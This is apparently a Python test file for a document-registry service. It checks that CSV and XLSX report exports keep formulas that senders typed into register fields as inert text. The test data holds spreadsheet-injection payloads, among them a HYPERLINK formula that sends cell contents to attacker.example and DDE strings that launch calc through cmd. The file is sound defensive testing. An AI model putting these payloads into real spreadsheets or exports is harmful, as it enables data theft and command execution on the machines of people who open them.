"""Register fields come from other parties' documents; a report opened in a
spreadsheet must show them as text and never run them. A clerk registers a
letter whose sender wrote formulas into its fields, downloads the CSV and the
XLSX, and opens them: in the XLSX every such field is a string cell (no
formula), in the CSV it starts with an apostrophe; numbers stay numbers."""
from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl

from docsvc import spreadsheets
from docsvc.incoming import reports
from docsvc.localtime import today
from docsvc.models import Handling
from tests.pdfs import make_pdf, sample_paragraphs

HOSTILE = {
    "issuing_body": '=HYPERLINK("http://attacker.example/?d="&A1,"Sở Nội vụ")',
    "number_symbol": "+1+cmd|' /C calc'!A0",
    "doc_type": "-2+3",
    "title": "@SUM(1+9)*cmd|' /C calc'!A0",
}


def _register_hostile_letter(rt, clerk, tmp_path) -> str:
    pdf = make_pdf(tmp_path / "thu.pdf", "Công văn", sample_paragraphs("quang-trach-cchc-7-thang-2021.txt")[:2])
    response = clerk.post("/api/v1/documents", data={"file": (pdf.open("rb"), "thu.pdf"), "title": "Công văn"})
    assert response.status_code in (200, 201, 202), response.get_json()
    document_id = response.get_json()["id"]
    response = clerk.post(f"/api/v1/documents/{document_id}/register", json=HOSTILE)
    assert response.status_code == 200, response.get_json()
    return document_id


def _period() -> dict:
    on = today()
    return {"from": on.isoformat(), "to": on.isoformat()}


def test_xlsx_shows_hostile_fields_as_text_cells_never_formulas(rt, clerk, tmp_path):
    _register_hostile_letter(rt, clerk, tmp_path)
    response = clerk.get("/api/v1/reports/incoming", query_string={**_period(), "format": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value is not None}
    for value in HOSTILE.values():
        cell = cells[value]  # the text exactly as the sender wrote it, no apostrophe added
        assert cell.data_type == "s", (value, cell.data_type)
        assert cell.quotePrefix  # Excel keeps it text if someone edits the cell
    assert not [cell.coordinate for cell in cells.values() if cell.data_type == "f"]
    # The register number and the counts are still numbers.
    assert cells[1].data_type == "n"
    number_cell = next(c for c in sheet["A"] if c.value == 1 and c.row > 10)
    assert number_cell.data_type == "n"


def test_csv_prefixes_hostile_fields_with_an_apostrophe(rt, clerk, tmp_path):
    _register_hostile_letter(rt, clerk, tmp_path)
    response = clerk.get("/api/v1/reports/incoming", query_string={**_period(), "format": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    line = rows[-1]
    for value in HOSTILE.values():
        assert "'" + value in line, (value, line)
    assert line[0] == "1"
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def _report_with(entry_fields: dict) -> reports.IncomingReport:
    report = reports.IncomingReport(1, "UBND-XA", "=cmd|' /C calc'!A0", date(2026, 3, 1), date(2026, 3, 31),
                                    date(2026, 3, 31), received=1, in_progress_at_end=1)
    base = dict(document_id="d", year=2026, number=7, received_date=date(2026, 3, 2), issuing_body=None,
                number_symbol=None, issued_date=None, doc_type=None, title="", handler="", deadline=None,
                status=Handling.RECEIVED, handled_date=None, timeliness="")
    report.entries = [reports.Entry(**(base | entry_fields))]
    return report


def test_tab_and_carriage_return_starts_are_neutralised_in_both_exports():
    report = _report_with({"issuing_body": "\t=1+2", "title": "\r=HYPERLINK(\"x\")", "number_symbol": "-15",
                           "handler": "Nguyễn Văn A"})
    rows = list(csv.reader(io.StringIO(reports.to_csv(report).decode("utf-8-sig"))))
    assert rows[1] == ["Cơ quan", "'=cmd|' /C calc'!A0"]  # the agency's name is a cell like any other
    line = rows[-1]
    assert line[2] == "'\t=1+2" and line[6] == "'\r=HYPERLINK(\"x\")"
    assert line[3] == "-15"  # a negative number is not a formula: left as it is
    assert line[7] == "Nguyễn Văn A"

    sheet = openpyxl.load_workbook(io.BytesIO(reports.to_xlsx(report))).active
    typed = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert typed["=cmd|' /C calc'!A0".upper()] == "s"
    assert typed["\t=1+2"] == "s" and typed["\r=HYPERLINK(\"x\")"] == "s"
    assert typed[7] == "n" and typed[1] == "n"
    assert "f" not in typed.values()


def test_only_text_that_a_spreadsheet_would_run_is_flagged():
    for text in ("=1+1", "+A1", "-A1+1", "@SUM(A1)", "\tx", "\rx"):
        assert spreadsheets.starts_formula(text), text
    for value in ("-5", "-12.5", "+3", "Sở Nội vụ", "", -5, 3.5, date(2026, 1, 1), None):
        assert not spreadsheets.starts_formula(value), value
